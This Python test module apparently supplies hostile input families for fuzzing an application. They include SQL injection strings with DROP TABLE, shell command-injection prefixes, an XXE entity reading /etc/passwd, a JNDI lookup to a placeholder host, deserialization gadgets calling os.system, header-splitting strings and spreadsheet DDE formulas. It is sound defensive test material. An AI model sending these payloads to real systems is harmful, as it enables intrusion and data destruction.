"""What would leave a statement, a command, a query, a header, a cell or a line."""

from __future__ import annotations

from collections.abc import Iterator

from tests.hostile.markup import MARK

LINE_ENDS = (
    "\r\n",
    "\n",
    "\r",
    "\u0085",
    "\u2028",
    "\u2029",
    "\x0b",
    "\x0c",
    "%0d%0a",
    "%0a",
    "\\r\\n",
    "\u560a\u560d",
)
HEADERS = (
    "Bcc: all@x.example",
    "Set-Cookie: a=b",
    "Location: //x.example",
    "Content-Type: text/html",
    "Subject: x",
)


QUOTES = ("'", '"', "`", "\\'", "')", '")', "'))", "%27", "\u2019", "\u02bc")
STATEMENTS = (
    "1; SELECT pg_sleep(9)",
    "1 OR 1=1",
    "%' OR '%'='",
    "_",
    "%",
    "%%",
    "\\%",
    "[a-z]%",
    "*",
    "a*",
    '"a" OR b',
)
SEARCHES = (
    "NEAR(a b)",
    "a AND",
    "NOT",
    "^a",
    "col:x",
    '"',
    '""',
    "'",
    "a:*",
    "a & b",
    "a | !b",
    "<->",
    "(a",
    "a)",
)
VALUES = (
    "1/*",
    "*/1",
    "--",
    "#",
    ";",
    "0x31",
    "char(49)",
    "$$a$$",
    "$1",
    ":name",
    "?",
    "@@version",
    "E'\\\\'",
)


def statements() -> Iterator[str]:
    """Yield what would end a string of SQL."""
    for quote in QUOTES:
        yield f"{quote} OR 1=1 --"
        yield f"{quote}; DROP TABLE partners_partner; --"
        yield f"{quote} UNION SELECT NULL,NULL,NULL --"
    yield from STATEMENTS
    yield from SEARCHES
    yield from VALUES


STARTS_OF_COMMANDS = (";", "|", "||", "&&", "&", "\n", "`", "$(", "<(", ">", ">>", "<")
OPTIONS = (
    "--help",
    "-rf",
    "-o ProxyCommand=x",
    "@/etc/passwd",
    "-",
    "--",
    "~",
    "~root",
    "$HOME",
    "!!",
    "$IFS",
)
DIRECTORY_FILTERS = ("*)(uid=*", "*)(|(uid=*))", "(&(a=b))", "\\2a", "admin*", ")(cn=*", "x)(!(a=b)")
XPATHS = (
    "' or '1'='1",
    "//*",
    "count(//a)",
    "'] | //x | //['",
    "document('x')",
    "string(//a)",
    "..//..",
)
DOCUMENT_QUERIES = (
    '{"$gt":""}',
    '{"$where":"1"}',
    "[$ne]=1",
    "a[]=1",
    "$regex",
    "';return 1;'",
    "*:* AND x",
    "{!lucene}x",
)
INCLUDES = (
    "${jndi:ldap://x.example/a}",
    "<!--#exec cmd='id'-->",
    "<esi:include src='x'/>",
    "<%@ page %>",
    "<?php x();",
)
OBJECTS = (
    "!!python/object:os.system",
    "cos\nsystem\n(S'id'\ntR.",
    'O:8:"stdClass":0:{}',
    "rO0ABXNy",
    "\\input{/etc/passwd}",
)
TYPESETTING = (
    "#set text(1pt)",
    '#read("/etc/passwd")',
    '#eval("1")',
    "$ x $",
    "= Heading",
    "@label",
    "<label>",
    "\\write18{id}",
)


def commands() -> Iterator[str]:
    """Yield what a shell, a directory or a document would run."""
    for start in STARTS_OF_COMMANDS:
        yield f"{start} touch /tmp/{MARK}"
    yield from OPTIONS
    yield from DIRECTORY_FILTERS
    yield from XPATHS
    yield from DOCUMENT_QUERIES
    yield "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"
    yield "<!DOCTYPE a [<!ENTITY b 'bb'><!ENTITY c '&b;&b;&b;&b;'>]><a>&c;</a>"
    yield from INCLUDES
    yield from OBJECTS
    yield from TYPESETTING


def headers() -> Iterator[str]:
    """Yield line ends with a header behind them."""
    for end in LINE_ENDS:
        for header in HEADERS:
            yield f"a{end}{header}"
    yield from (
        f"x\r\n\r\n<{MARK}>",
        "x\n.\nQUIT",
        "a@x.example\nBcc:b@x.example",
        "=?utf-8?B?eA==?=",
        "=?utf-8?Q?=0ABcc:_x?=",
    )


def mails() -> Iterator[str]:
    """Yield addresses that programs read in two ways."""
    yield from (
        "a@b",
        "a@@b.example",
        "@x.example",
        "a@",
        "a b@x.example",
        '"a b"@x.example',
        "a@[127.0.0.1]",
    )
    yield from (
        "a@x.example,b@x.example",
        "a@x.example;b@x.example",
        "<a@x.example>",
        "A <a@x.example>",
        "a@x.example>",
    )
    yield from (
        "a(comment)@x.example",
        "a@x..example",
        ".a@x.example",
        "a.@x.example",
        "a%x@y.example",
        "a!b@x.example",
    )
    yield from (
        "\u00e4@x.example",
        "a@\u00e4.example",
        "a@xn--4ca.example",
        "a@x.example\x00",
        "a@x.example\u200b",
        "\uff41@x.example",
    )
    yield f"{'a' * 65}@x.example"
    yield f"a@{'b' * 64}.example"
    yield f"a@{'b.' * 130}example"


def cells() -> Iterator[str]:
    """Yield formulas of spreadsheets."""
    for sign in (
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        " =",
        "\uff1d",
        "\uff0b",
        "\uff0d",
        "\uff20",
        "'=",
        '"=',
        "\ufeff=",
    ):
        yield f"{sign}1+1"
        yield f'{sign}HYPERLINK("//{MARK}.example")'
    yield from (
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=DDE(1)",
        "=WEBSERVICE(1)",
        "-2+3",
        '=1";"x',
        ";=1",
        ",=1",
    )


FAMILIES = {
    "statements": statements,
    "commands": commands,
    "headers": headers,
    "mails": mails,
    "cells": cells,
}
